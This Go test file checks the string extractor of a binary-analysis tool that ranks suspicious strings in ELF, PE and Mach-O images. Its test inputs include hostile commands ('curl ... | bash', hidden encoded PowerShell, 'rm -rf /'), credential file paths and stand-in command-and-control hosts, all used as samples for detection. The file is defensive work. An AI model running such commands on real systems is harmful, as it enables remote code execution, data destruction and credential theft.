package text_test

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/loupe-sec/loupe/internal/formats/native/elf"
	"github.com/loupe-sec/loupe/internal/formats/native/image"
	"github.com/loupe-sec/loupe/internal/formats/native/text"
)

// literals makes an image with texts that end in zero bytes, as C has them.
func literals(texts ...string) *image.Image {
	return &image.Image{Data: []byte("\x00" + strings.Join(texts, "\x00") + "\x00")}
}

func telling(m *image.Image) []text.Ranked { return text.Telling(text.Extract(m), 200) }

func TestKinds(t *testing.T) {
	for _, test := range []struct {
		in   string
		kind text.Kind
		want string // of that kind; empty for none
	}{
		{"https://example.test/a?b=c&d=%s", text.URL, "https://example.test/a?b=c&d=%s"},
		{"see (https://host.example.com/x), then", text.URL, "https://host.example.com/x"},
		{"oopshttp://10.1.2.3:8080/x.sh", text.URL, "http://10.1.2.3:8080/x.sh"},
		{"http://%s:%d/gate", text.URL, "http://%s:%d/gate"},
		{"%s://%s", text.URL, ""},
		{"std://vector", text.URL, ""},
		{"a:://b", text.URL, ""},

		{"api.telegram.org", text.Host, "api.telegram.org"},
		{"connect to c2.evil.ru:4444 now", text.Host, "c2.evil.ru:4444"},
		{"update.example-cdn.io", text.Host, "update.example-cdn.io"},
		{"bad-host7.top", text.Host, "bad-host7.top"},
		{"std.io", text.Host, ""},
		{"foo.cc", text.Host, ""},
		{"liba.so", text.Host, ""},
		{"src/main.rs", text.Host, ""},
		{"console.info", text.Host, ""},
		{"string.prototype.at", text.Host, ""},
		{"System.Net", text.Host, ""},
		{"com.example.app.net", text.Host, ""},
		{"position.xyz", text.Host, ""},
		{"self.name", text.Host, ""},
		{"1.2.in", text.Host, ""},
		{"a..com", text.Host, ""},
		{"-bad-.com", text.Host, ""},
		{"evil.company.communication", text.Host, ""},

		{"8.8.8.8", text.IP, "8.8.8.8"},
		{"185.220.101.4:9001", text.IP, "185.220.101.4:9001"},
		{"169.254.169.254", text.IP, "169.254.169.254"},
		{"192.168.1.10", text.IP, "192.168.1.10"},
		{"127.0.0.1", text.IP, "127.0.0.1"},
		{"1.2.3.4", text.IP, ""},
		{"version 45.67.89.101", text.IP, ""},
		{"Foo/45.67.89.101", text.IP, ""},
		{"0.0.0.0", text.IP, ""},
		{"255.255.255.0", text.IP, ""},
		{"1.3.6.1.4.1.311", text.IP, ""},
		{"1.2.840.113", text.IP, ""},
		{"2.5.29.17", text.IP, ""},
		{"45.67.89.101.5", text.IP, ""},
		{"345.67.89.101", text.IP, ""},
		{"10.0.0.0", text.IP, ""},
		{"2a02:6b8::feed:ff", text.IP, "2a02:6b8::feed:ff"},
		{"fe80::1ff:fe23:4567:890a", text.IP, "fe80::1ff:fe23:4567:890a"},
		{"abc::def", text.IP, ""},
		{"core::fmt::Error", text.IP, ""},
		{"::1", text.IP, ""},

		{"mail someone@mail.example.org or", text.Email, "someone@mail.example.org"},
		{"memcpy@GLIBC_2.2.5", text.Email, ""},
		{"@scope/name.js", text.Email, ""},

		{"/etc/passwd", text.Path, "/etc/passwd"},
		{"cannot open /proc/self/maps", text.Path, "/proc/self/maps"},
		{"%s/.ssh/id_rsa", text.Path, "%s/.ssh/id_rsa"},
		{`%APPDATA%\npm\x.exe`, text.Path, `%APPDATA%\npm\x.exe`},
		{"/home/u/.npmrc", text.Path, "/home/u/.npmrc"},
		{"sourcing/etc/x", text.Path, ""},

		{"/bin/sh -c '%s'", text.Command, "/bin/sh -c '%s'"},
		{"curl -fsSL http://x.test/i.sh | bash", text.Command, "curl -fsSL http://x.test/i.sh | bash"},
		{"curl easy handle", text.Command, ""},
		{"libcurl -x", text.Command, ""},
		{"cmd.exe /c del /q %s", text.Command, "cmd.exe /c del /q %s"},
		{"powershell -nop -w hidden -enc AAAA", text.Command, "powershell -nop -w hidden -enc AAAA"},
		{"rm -rf /", text.Command, "rm -rf /"},
		{"schtasks /create /tn x", text.Command, "schtasks /create /tn x"},
		{"launchctl load -w %s", text.Command, "launchctl load -w %s"},

		{`Software\Microsoft\Windows\CurrentVersion\Run`, text.Registry, `Software\Microsoft\Windows\CurrentVersion\Run`},
		{"HKEY_CURRENT_USER", text.Registry, "HKEY_CURRENT_USER"},
		{"sshkey_new", text.Registry, ""},

		{"-----BEGIN RSA PRIVATE KEY-----", text.Key, "-----BEGIN RSA PRIVATE KEY-----"},
		{"ssh-rsa AAAAB3NzaC1yc2E", text.Key, "ssh-rsa AAAAB3NzaC1yc2E"},

		{"LD_PRELOAD", text.Environment, "LD_PRELOAD"},
		{"$NPM_TOKEN is not set", text.Environment, "NPM_TOKEN"},
		{"MYAPP_SECRET", text.Environment, "MYAPP_SECRET"},
		{"ERROR_INVALID_PASSWORD", text.Environment, ""},
		{"XLD_PRELOADED", text.Environment, ""},

		{"Mozilla/5.0 (X11; Linux x86_64)", text.UserAgent, "Mozilla/5.0 (X11; Linux x86_64)"},
		{"wireshark", text.Analysis, "wireshark"},

		{"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", text.Wallet, "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"},
		{"1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3", text.Wallet, ""},
		{"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", text.Wallet, "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"},
		{"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdr", text.Wallet, ""},
		{"bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr", text.Wallet, "bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr"},
		{"0x52908400098527886E0F7030069857D2E4169EE7", text.Wallet, "0x52908400098527886E0F7030069857D2E4169EE7"},
		{"0x5290", text.Wallet, ""},
		{"2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion", text.Onion, "2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion"},
		{"red.onion", text.Onion, ""},

		{`C:\Users\dev\src\x\x64\Release\x.pdb`, text.BuildPath, `C:\Users\dev\src\x\x64\Release\x.pdb`},
		{"/home/dev/project/src/main.cc", text.BuildPath, "/home/dev/project/src/main.cc"},

		{"Invalid salt. Salt must be in the form of: $Vers$log2(NumRounds)$saltvalue", text.Message, "Invalid salt. Salt must be in the form of: $Vers$log2(NumRounds)$saltvalue"},
		{"%d %d %d %s", text.Message, ""},
		{"encrypt_sync", text.Word, "encrypt_sync"},
		{"zxcvbnmqwrtp", text.Word, ""},
	} {
		t.Run(test.in, func(t *testing.T) {
			got := telling(literals(test.in))
			i := slices.IndexFunc(got, func(r text.Ranked) bool { return r.Kind == test.kind })
			switch {
			case i < 0 && test.want != "":
				t.Errorf("no %s in %+v; want %q", test.kind, got, test.want)
			case i >= 0 && got[i].Value != test.want:
				t.Errorf("%s %q; want %q", test.kind, got[i].Value, test.want)
			}
		})
	}
}

// TestWide looks for the same in UTF-16, and at the places that are told.
func TestWide(t *testing.T) {
	wide := func(s string) (out []byte) {
		for _, c := range []byte(s) {
			out = append(out, c, 0)
		}
		return out
	}
	data := append(bytes.Repeat([]byte{0xff}, 33), wide("go to https://example.test/a now")...)
	data = append(data, 0xff, 0xff)
	m := &image.Image{Format: image.PE, Data: data, Sections: []image.Section{{Name: ".rsrc", Addr: 0x401000, Size: uint64(len(data)), FileSize: uint64(len(data)), Access: image.Read}}}
	got := telling(m)
	want := text.Ranked{Value: "https://example.test/a", Kind: text.URL, Address: 0x401000 + 33 + 12, Offset: 33 + 12, Section: ".rsrc"}
	if len(got) > 0 {
		want.Score = got[0].Score
	}
	if len(got) == 0 || got[0] != want {
		t.Errorf("got %+v; want %+v first", got, want)
	}
}

// TestCrowd has thousands of each common kind, and one text of each that
// matters: all of the latter must be among the two hundred.
func TestCrowd(t *testing.T) {
	matter := []string{
		"-----BEGIN OPENSSH PRIVATE KEY-----", "/home/u/.aws/credentials", "curl -s http://198.51.100.7/x | sh", "185.220.101.4:9001",
		"LD_PRELOAD", `Software\Microsoft\Windows\CurrentVersion\Run`, "Mozilla/5.0 (Windows NT 10.0)", "drop@mail.example.ru", "https://webhook.site/0123", "exfil.evil-host.ru",
	}
	var texts []string
	for i := range 5000 {
		texts = append(texts,
			fmt.Sprintf("https://docs%d.example-project.org/page/%d", i%50, i),
			fmt.Sprintf("/build/project-%d/src/module%d.cc", i%7, i),
			fmt.Sprintf("Failed to open socket number %c%c with error code", 'a'+i%26, 'a'+i/26%26),
			fmt.Sprintf("/usr/lib/project/file%d", i),
			fmt.Sprintf("host%d.example.com", i),
			fmt.Sprintf("identifier_%c%c%c", 'a'+i%26, 'a'+i/26%26, 'a'+i/676),
		)
		if i%500 == 250 {
			texts = append(texts, matter[i/500])
		}
	}
	got := telling(literals(texts...))
	if len(got) != 200 {
		t.Errorf("%d texts; want 200", len(got))
	}
	values := make(map[string]bool)
	kinds := make(map[text.Kind]int)
	for _, r := range got {
		values[r.Value] = true
		kinds[r.Kind]++
	}
	for _, w := range matter {
		if !values[w] {
			t.Errorf("no %q", w)
		}
	}
	for kind, n := range kinds {
		if n > 150 {
			t.Errorf("%d of 200 are of kind %s", n, kind)
		}
	}
	if kinds[text.Message] == 0 || kinds[text.URL] == 0 || kinds[text.Path] == 0 || kinds[text.BuildPath] == 0 {
		t.Errorf("kinds %v; want some of each", kinds)
	}
	if again := telling(literals(texts...)); !reflect.DeepEqual(again, got) {
		t.Error("the second time, something else")
	}
}

// TestNames has texts that the report shows elsewhere.
func TestNames(t *testing.T) {
	m := literals("encrypt_session", "session_encrypt", "library_name", ".gcc_except_table")
	m.Imports = []image.Import{{Name: "encrypt_session"}}
	m.Libraries = []string{"library_name"}
	m.Sections = []image.Section{{Name: ".gcc_except_table"}}
	got := telling(m)
	if len(got) != 1 || got[0].Value != "session_encrypt" {
		t.Errorf("got %+v; want session_encrypt alone", got)
	}
}

// TestGaps has symbol names behind the last section of a Mach-O file, where the
// segment of link information begins in the middle of what no section covers.
func TestGaps(t *testing.T) {
	data := make([]byte, 400)
	copy(data[100:], "Unable to open the file of sessions")
	copy(data[300:], "@__Unwind_Resume https://symbols.example.test/a Unable to close the file")
	m := &image.Image{Format: image.MachO, Data: data,
		Sections: []image.Section{{Name: "__TEXT,__cstring", Addr: 0x1060, Offset: 96, FileSize: 100, Size: 100}},
		Segments: []image.Segment{{Name: "__TEXT", Addr: 0x1000, Size: 250, FileSize: 250}, {Name: "__LINKEDIT", Addr: 0x2000, Offset: 250, FileSize: 150, Size: 150}},
	}
	got := telling(m)
	if len(got) != 1 || got[0].Value != "Unable to open the file of sessions" || got[0].Address != 0x1064 {
		t.Errorf("got %+v; want the text of the section alone", got)
	}
	if n := text.Extract(m).Len(); n != 1 {
		t.Errorf("%d texts are extracted; want one", n)
	}
	m.Segments[1].Access = image.Read | image.Write
	if got := telling(m); !slices.ContainsFunc(got, func(r text.Ranked) bool { return r.Value == "https://symbols.example.test/a" }) {
		t.Errorf("got %+v; want texts that the program may change, whatever its segment is called", got)
	}
}

// TestRoles puts the same text into sections of every role.
func TestRoles(t *testing.T) {
	body := "\x00Unable to open the file of sessions\x00https://example.test/a\x00"
	for _, test := range []struct {
		name         string
		section      image.Section
		message, url bool
	}{
		{"data", image.Section{Name: ".rodata", Addr: 0x1000, Access: image.Read}, true, true},
		{"code", image.Section{Name: ".text", Addr: 0x1000, Access: image.Read | image.Execute}, false, true},
		{"code of Mach-O", image.Section{Name: "__TEXT,__text", Addr: 0x1000, Access: image.Read | image.Execute, Code: true}, false, true},
		{"data in the segment of code", image.Section{Name: "__TEXT,__cstring", Addr: 0x1000, Access: image.Read | image.Execute}, true, true},
		{"names of symbols", image.Section{Name: ".strtab"}, false, false},
		{"names for the loader", image.Section{Name: ".dynstr", Addr: 0x1000, Access: image.Read}, false, false},
		{"versions", image.Section{Name: ".gnu.version_r", Addr: 0x1000, Access: image.Read}, false, false},
		{"relocations", image.Section{Name: ".rela.dyn", Addr: 0x1000, Access: image.Read}, false, false},
		{"a table that may be written", image.Section{Name: ".dynstr", Addr: 0x1000, Access: image.Read | image.Write}, true, true},
		{"names that are mapped", image.Section{Name: ".strtab", Addr: 0x1000, Access: image.Read}, true, true},
		{"relocations of PE", image.Section{Name: ".reloc", Addr: 0x1000, Access: image.Read}, false, false},
		{"imports of PE", image.Section{Name: ".idata", Addr: 0x1000, Access: image.Read | image.Write}, false, true},
		{"debug information of an object", image.Section{Name: ".debug$S"}, false, false},
		{"debug", image.Section{Name: ".debug_str"}, false, false},
		{"mapped under a false name", image.Section{Name: ".debug_str", Addr: 0x1000, Access: image.Read}, true, true},
	} {
		t.Run(test.name, func(t *testing.T) {
			test.section.FileSize, test.section.Size = uint64(len(body)), uint64(len(body))
			format := image.ELF
			if strings.HasPrefix(test.section.Name, "__") {
				format = image.MachO
			}
			if strings.Contains(test.name, "PE") || strings.Contains(test.section.Name, "$") {
				format = image.PE
			}
			got := telling(&image.Image{Format: format, Data: []byte(body), Sections: []image.Section{test.section}})
			has := func(k text.Kind) bool {
				return slices.ContainsFunc(got, func(r text.Ranked) bool { return r.Kind == k })
			}
			if has(text.Message) != test.message || has(text.URL) != test.url {
				t.Errorf("message %v, URL %v in %+v; want %v, %v", has(text.Message), has(text.URL), got, test.message, test.url)
			}
		})
	}
}

// TestPieces glues texts together and tells of their bounds by pairs of
// pointer and length in data, in relocations, and in the code of two machines.
func TestPieces(t *testing.T) {
	const textAt, dataAt, codeAt = 0x10000, 0x20000, 0x30000
	parts := []string{"Unable to find the configuration", "https://example.test/first", "https://example.test/second", "Cannot connect to the proxy", "/etc/passwd", "trailing words of another text"}
	glued := strings.Join(parts, "")
	page := func(s string) []byte { return append([]byte(s), make([]byte, 0x1000-len(s))...) }
	type pair struct{ addr, size uint64 }
	var pairs []pair
	at := uint64(textAt)
	for _, p := range parts {
		pairs = append(pairs, pair{at, uint64(len(p))})
		at += uint64(len(p))
	}
	le := binary.LittleEndian
	section := func(name string, addr uint64, offset uint64, access image.Access) image.Section {
		return image.Section{Name: name, Addr: addr, Offset: offset, Size: 0x1000, FileSize: 0x1000, Access: access, Code: access&image.Execute != 0}
	}
	for _, test := range []struct {
		name string
		arch image.Arch
		bits int
		data func() (data, code, rela []byte)
	}{
		{"data, 64 bits", image.X86_64, 64, func() (data, code, rela []byte) {
			for _, p := range pairs {
				data = le.AppendUint64(le.AppendUint64(data, p.addr), p.size)
			}
			return
		}},
		{"data, 32 bits", image.X86, 32, func() (data, code, rela []byte) {
			for _, p := range pairs {
				data = le.AppendUint32(le.AppendUint32(data, uint32(p.addr)), uint32(p.size))
			}
			return
		}},
		{"relocations", image.RISCV64, 64, func() (data, code, rela []byte) {
			for i, p := range pairs {
				data = le.AppendUint64(le.AppendUint64(data, 0), p.size)
				rela = le.AppendUint64(le.AppendUint64(le.AppendUint64(rela, dataAt+uint64(16*i)), 8), p.addr)
			}
			return
		}},
		{"code of x86-64", image.X86_64, 64, func() (data, code, rela []byte) {
			for _, p := range pairs {
				code = append(code, 0x90, 0x48, 0x8d, 0x05) // lea rax, [rip+d]
				code = le.AppendUint32(code, uint32(p.addr-(codeAt+uint64(len(code))+4)))
				code = le.AppendUint32(append(code, 0xbb), uint32(p.size)) // mov ebx, n
				code = append(code, bytes.Repeat([]byte{0x90}, 24)...)
			}
			return
		}},
		{"code of aarch64", image.AArch64, 64, func() (data, code, rela []byte) {
			for _, p := range pairs {
				pages := (int64(p.addr) >> 12) - int64(codeAt>>12)
				code = le.AppendUint32(code, 0x90000000|uint32(pages&3)<<29|uint32(pages>>2&0x7ffff)<<5) // adrp x0
				code = le.AppendUint32(code, 0x91000000|uint32(p.addr&0xfff)<<10)                        // add x0, x0, n
				code = le.AppendUint32(code, 0x52800001|uint32(p.size)<<5)                               // movz w1, n
				code = append(code, bytes.Repeat([]byte{0x1f, 0x20, 0x03, 0xd5}, 6)...)
			}
			return
		}},
	} {
		t.Run(test.name, func(t *testing.T) {
			data, code, rela := test.data()
			m := &image.Image{Format: image.ELF, Arch: test.arch, Bits: test.bits, Data: slices.Concat(page(glued), page(string(data)), page(string(code)), page(string(rela)))}
			m.Sections = []image.Section{section(".rodata", textAt, 0, image.Read), section(".data", dataAt, 0x1000, image.Read|image.Write), section(".text", codeAt, 0x2000, image.Read|image.Execute), section(".rela.dyn", 0x40000, 0x3000, image.Read)}
			for _, s := range m.Sections {
				m.Segments = append(m.Segments, image.Segment{Addr: s.Addr, Offset: s.Offset, Size: s.Size, FileSize: s.FileSize, Access: s.Access})
			}
			table := text.Extract(m)
			table.Glued = true
			var got []string
			for _, r := range text.Telling(table, 200) {
				got = append(got, r.Value)
			}
			slices.Sort(got)
			want := slices.Sorted(slices.Values(parts))
			if !slices.Equal(got, want) {
				t.Errorf("got %q; want %q", got, want)
			}
		})
	}
}

// TestBuiltRust has a compiler glue the texts.
func TestBuiltRust(t *testing.T) {
	rustc, err := exec.LookPath("rustc")
	if err != nil {
		t.Skip("needs rustc")
	}
	dir := t.TempDir()
	source := `fn main() {
		for a in std::env::args() {
			match a.as_str() {
				"a" => println!("{}", "https://planted.example.test/first/path"),
				"b" => println!("{}", "https://planted.example.test/second"),
				"c" => eprintln!("Unable to reach the planted configuration server"),
				_ => { std::fs::read("/home/planted/.aws/credentials").ok(); }
			}
		}
	}`
	if err := os.WriteFile(filepath.Join(dir, "main.rs"), []byte(source), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), rustc, "-O", "-Cstrip=symbols", "main.rs")
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("rustc: %v\n%s", err, out)
	}
	data, err := os.ReadFile(filepath.Join(dir, "main"))
	if err != nil {
		t.Fatal(err)
	}
	m, err := elf.Parse(data)
	if err != nil {
		t.Skipf("rustc makes no ELF here: %v", err)
	}
	table := text.Extract(m)
	table.Glued = true
	got := make(map[string]text.Kind)
	for _, r := range text.Telling(table, 200) {
		got[r.Value] = r.Kind
	}
	for want, kind := range map[string]text.Kind{
		"https://planted.example.test/first/path":          text.URL,
		"https://planted.example.test/second":              text.URL,
		"/home/planted/.aws/credentials":                   text.Path,
		"Unable to reach the planted configuration server": text.Message,
	} {
		if got[want] != kind {
			t.Errorf("%q is of kind %q; want %q", want, got[want], kind)
		}
	}
}

func FuzzTelling(f *testing.F) {
	f.Add([]byte("\x00https://example.test/a\x00/etc/passwd\x00curl -s x\x00"), uint8(0))
	f.Add([]byte("h\x00t\x00t\x00p\x00:\x00/\x00/\x00a\x00.\x00c\x00o\x00m\x00"), uint8(1))
	f.Add([]byte("a@b.com 1.2.3.4:5 fe80::1 x.onion bc1q 0x0 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"), uint8(2))
	f.Add(bytes.Repeat([]byte("Unable to open the file of sessions/usr/lib/x"), 9), uint8(3))
	f.Fuzz(func(t *testing.T, data []byte, shape uint8) {
		half := uint64(len(data) / 2)
		m := &image.Image{Format: image.ELF, Arch: image.X86_64, Bits: 64, Data: data}
		if shape&1 != 0 {
			m.Sections = []image.Section{{Name: ".rodata", Addr: 8, Offset: 0, FileSize: half, Size: half}, {Name: ".text", Addr: 8 + half, Offset: half, FileSize: half, Size: half, Access: image.Execute}, {Name: ".rela.dyn", Addr: 16, Offset: half / 2, FileSize: 1 << 60}}
			m.Segments = []image.Segment{{Addr: 8, Size: 2 * half, FileSize: 2 * half, Access: image.Read}}
		}
		if shape&2 != 0 {
			m.Arch = image.AArch64
		}
		if shape&4 != 0 {
			m.Format = image.MachO
		}
		if shape&8 != 0 {
			m.Bits = 32
		}
		m.Finish()
		table := text.Extract(m)
		table.Glued = shape&16 != 0
		for i := range table.Len() {
			r := table.Run(i)
			if got, ok := table.At(r.Offset); !ok || got.Offset != r.Offset && !got.Wide && !r.Wide {
				t.Fatalf("run %d is %+v; at its offset is %+v", i, r, got)
			}
		}
		for _, r := range text.Telling(table, 200) {
			if r.Value == "" || len(r.Value) > 200 || strings.ContainsFunc(r.Value, func(c rune) bool { return c < ' ' || c > '~' }) || r.Offset >= uint64(len(data)) {
				t.Fatalf("%+v", r)
			}
		}
	})
}

func BenchmarkTelling(b *testing.B) {
	var texts []string
	for i := range 50000 {
		texts = append(texts, fmt.Sprintf("Failed to open the file number %d", i), fmt.Sprintf("/usr/lib/project/file%d", i), fmt.Sprintf("identifier_%x", i*i))
	}
	m := literals(texts...)
	table := text.Extract(m)
	b.SetBytes(int64(len(m.Data)))
	b.ReportAllocs()
	for b.Loop() {
		text.Telling(table, 200)
	}
}
